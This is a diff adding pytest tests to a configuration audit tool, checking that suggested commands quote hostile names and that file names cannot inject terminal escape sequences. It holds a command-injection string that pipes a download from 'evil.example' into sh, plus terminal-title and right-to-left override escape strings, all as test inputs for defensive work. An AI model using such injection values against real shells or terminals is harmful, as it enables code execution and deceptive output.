@@ -1,9 +1,13 @@
 """What is said of facts that are made up: every kind of finding, who could read, and SARIF. No engine."""
 
 import json
+import os
+import shlex
+import sys
 from dataclasses import replace
 from pathlib import Path
 
+import pexpect
 import pytest
 from shim_host.audit import judge, sarif
 from shim_host.audit import page as audit_page
@@ -15,7 +19,7 @@ from shim.schema import parse
 from shim.secret import Secret
 from tests.support.audit_examples import NOW, clean, file, holds_to_schema, large, service, small, version
 from tests.support.forms import Custody
-from tests.support.host import Canary, Manage
+from tests.support.host import SCRIPT, Canary, Manage
 
 
 def ids(facts: Facts, **options: int) -> list[str]:
@@ -433,3 +437,55 @@ def test_a_page_that_cannot_be_written_is_said(manage: Manage) -> None:
 def test_help_names_every_level(manage: Manage) -> None:
     assert Path(audit_page.__file__).with_name("page.html").exists()
     assert "error|warning|note" in manage("audit", "--help").stdout
+
+
+EVIL = "a; curl evil.example|sh #$(touch x)`y`' \""
+
+
+@pytest.mark.parametrize("name", [EVIL, "--help", "two\nlines", "\x1b]0;title\x07", "a\u202eb"])
+def test_no_name_of_a_stranger_writes_a_command_line(name: str) -> None:
+    """Labels, services, containers and paths are one word each in what a person is offered to run, or are left out."""
+    versions = [version("K", number, 900)._replace(key=name, name=f"{name}.v{number}") for number in (1, 2)]
+    shared = replace(service("s", versions[0]), name=name, own_name=name, stack=name)
+    compose = replace(shared, name=f"c{name}", kind="compose")
+    alone = replace(shared, name=f"l{name}", kind="container")
+    open_file = file("F", mode=0o644)._replace(path=f"{name}/f")
+    facts = Facts(
+        NOW,
+        versions=(*versions, version("U", 1, 900)._replace(name=name)),
+        files=(open_file,),
+        services=(shared, compose, alone),
+        containers=tuple(Container(name, one.name, {name: "print-9"}, "salt") for one in (shared, compose, alone)),
+    )
+    commands = [finding.command for finding in judge.judge(facts).findings if finding.command]
+
+    assert len(commands) >= 4
+    for command in commands:
+        assert command.isprintable()
+        words = shlex.split(command)
+        assert shlex.join(words) == command, "every word is quoted as it has to be, and no more"
+        assert "--help" not in words
+    assert any("curl" in command for command in commands) == (name == EVIL)
+
+
+def test_a_file_name_tells_a_terminal_nothing(manage: Manage, canary: Canary) -> None:
+    """git carries such names, and a Compose file may include them: a checkout must not write to the terminal."""
+    name = "x\x1b]0;PWNED\x07\x1b[31m\u202e.yml"
+    value = canary()
+    manage.write("secrets/db_password", value).chmod(0o600)
+    manage.write(name, f"services:\n  web:\n    image: b\n    environment:\n      DB_PASSWORD: {value}\n")
+    manage.write("docker-compose.yml", f"include:\n  - {json.dumps(name)}\n")
+    child = pexpect.spawn(
+        sys.executable,
+        [str(SCRIPT), "audit", "--no-engine"],
+        cwd=str(manage.folder),
+        env={"PATH": os.environ["PATH"], "HOME": str(manage.folder), "TERM": "xterm"},
+        encoding="utf-8",
+        timeout=60,
+    )
+    child.expect(pexpect.EOF)
+    said = str(child.before)
+    manage.custody.said.append(said)
+
+    assert "PWNED" in said
+    assert not [character for character in ("\x1b]0;", "\x07", "\u202e") if character in said]
